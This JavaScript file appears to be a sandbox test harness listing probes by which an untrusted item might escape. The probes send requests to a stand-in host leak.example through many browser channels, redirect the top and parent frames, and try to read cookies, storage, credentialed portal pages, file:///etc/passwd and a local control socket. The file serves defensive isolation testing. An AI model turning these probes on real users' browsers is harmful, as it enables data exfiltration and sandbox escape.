// What a hostile item tries, each by its name. A probe's return value is what it got hold of; "" is nothing.
// Whatever reaches NAME.leak.example is heard by the stranger there.
"use strict";
const at = name => `http://${name}.leak.example/`;
const soon = (make, wait = 1500) => Promise.race([
  new Promise(done => setTimeout(() => done(""), wait)),
  (async () => String((await make()) ?? ""))().catch(() => ""),
]);
const put = (html, where = document.body) => { where.insertAdjacentHTML("beforeend", html); return ""; };
const add = (tag, more) => { document.head.append(Object.assign(document.createElement(tag), more)); return ""; };

const LEAKS = {
  "fetch": () => fetch(at("fetch"), { mode: "no-cors" }),
  "xhr": () => { const one = new XMLHttpRequest(); one.open("GET", at("xhr")); one.send(); },
  "beacon": () => { navigator.sendBeacon(at("beacon"), "x"); },
  "image": () => { new Image().src = at("image"); },
  "script": () => add("script", { src: at("script") }),
  "module": () => import(at("module")),
  "modulepreload": () => add("link", { rel: "modulepreload", href: at("modulepreload") }),
  "style": () => add("link", { rel: "stylesheet", href: at("style") }),
  "cssimport": () => add("style", { textContent: `@import "${at("cssimport")}";` }),
  "cssurl": () => put(`<p style="background: url(${at("cssurl")})">x</p>`),
  "font": () => new FontFace("f", `url(${at("font")})`).load(),
  "video": () => put(`<video src="${at("video")}" preload="auto"></video>`),
  "track": () => put(`<video crossorigin><track default src="${at("track")}"></video>`),
  "svg": () => put(`<svg><image href="${at("svg")}"/></svg>`),
  "frame": () => put(`<iframe src="${at("frame")}"></iframe>`),
  "object": () => put(`<object data="${at("object")}"></object>`),
  "embed": () => put(`<embed src="${at("embed")}">`),
  "prefetch": () => add("link", { rel: "prefetch", href: at("prefetch") }),
  "preload": () => add("link", { rel: "preload", as: "image", href: at("preload") }),
  "preconnect": () => add("link", { rel: "preconnect", href: at("preconnect") }),
  "dns-prefetch": () => add("link", { rel: "dns-prefetch", href: at("dns-prefetch") }),
  "manifest": () => add("link", { rel: "manifest", href: at("manifest") }),
  "eventsource": () => { new EventSource(at("eventsource")); },
  "websocket": () => { new WebSocket("ws://websocket.leak.example/"); },
  "worker": () => {
    const code = `fetch("${at("worker")}", { mode: "no-cors" })`;
    new Worker(URL.createObjectURL(new Blob([code])));
  },
  "ping": () => { put(`<a id="ping" href="#x" ping="${at("ping")}">x</a>`); document.getElementById("ping").click(); },
  "form": () => {
    put(`<iframe name="sink"></iframe><form id="form" target="sink" action="${at("form")}"></form>`);
    document.getElementById("form").submit();
  },
  "window": () => { window.open(at("window")); },
  "speculation": () => add("script", { type: "speculationrules",
    textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [at("speculation")], eagerness: "immediate" }] }) }),
  "webrtc": async () => {
    const one = new RTCPeerConnection({ iceServers: [{ urls: "stun:webrtc.leak.example:3478" }] });
    one.createDataChannel("x");
    await one.setLocalDescription(await one.createOffer());
  },
};

const NAVIGATIONS = {
  "self": () => { location.href = at("self"); },
  "top": () => { top.location.href = at("top"); },
  "parent": () => { parent.location.replace(at("parent")); },
  "meta": () => add("meta", { httpEquiv: "refresh", content: `0;url=${at("meta")}` }),
  "target": () => { put(`<a id="go" target="_top" href="${at("target")}">x</a>`); document.getElementById("go").click(); },
  "formtop": () => { put(`<form id="gone" target="_top" action="${at("formtop")}"></form>`); document.getElementById("gone").submit(); },
};

// What it may get hold of in the browser. Each answers with what it got.
const GRABS = {
  "parent-document": () => parent.document.body.innerText,
  "parent-address": () => parent.location.href,
  "opener": () => window.opener && "an opener",
  "storage": () => { localStorage.setItem("a", "b"); return localStorage.getItem("a"); },
  "session-storage": () => { sessionStorage.setItem("a", "b"); return sessionStorage.getItem("a"); },
  "cookie": () => { document.cookie = "a=b"; return document.cookie; },
  "database": () => new Promise((done, fail) => {
    const one = indexedDB.open("a"); one.onsuccess = () => done("a database"); one.onerror = fail;
  }),
  "caches": async () => (await caches.open("a")) && "a cache",
  "service-worker": async () => (await navigator.serviceWorker.register("worker.js")) && "a service worker",
  "own-file": async () => (await fetch("secret.txt")).text(),
  "portal-page": async () => (await fetch(`${PORTAL}/laptop`, { credentials: "include" })).text(),
  "portal-frame": () => new Promise(done => {
    const one = document.createElement("iframe"); one.src = `${PORTAL}/laptop`;
    one.onload = () => { try { done(one.contentDocument.body.innerText); } catch { done(""); } };
    document.body.append(one);
  }),
  "portal-script": () => new Promise((done, fail) => {
    const one = document.createElement("script"); one.src = `${PORTAL}/laptop`;
    one.onload = () => done("it was loaded as a script"); one.onerror = fail; document.body.append(one);
  }),
  "portal-picture": () => new Promise((done, fail) => {
    const one = new Image(); one.onload = () => done(`a picture ${one.width} wide`); one.onerror = fail;
    one.src = `${PORTAL}${ICON}`;
  }),
  "other-item": async () => (await fetch(OTHER)).text(),
  "other-item-frame": () => new Promise(done => {
    const one = document.createElement("iframe"); one.src = OTHER;
    one.onload = () => { try { done(one.contentDocument.body.innerText); } catch { done(""); } };
    document.body.append(one);
  }),
  "file": async () => (await fetch("file:///etc/passwd")).text(),
  "socket": async () => (await fetch("http+unix://%2Frun%2Fbookbag%2Fcontrol.sock/")).text(),
  "channel": () => new Promise(done => {
    const one = new BroadcastChannel("a"); one.onmessage = event => done(event.data); one.postMessage("hello?");
  }),
  "history": () => new Promise(done => {
    const before = location.href; history.back(); setTimeout(() => done(location.href === before ? "" : location.href), 700);
  }),
};
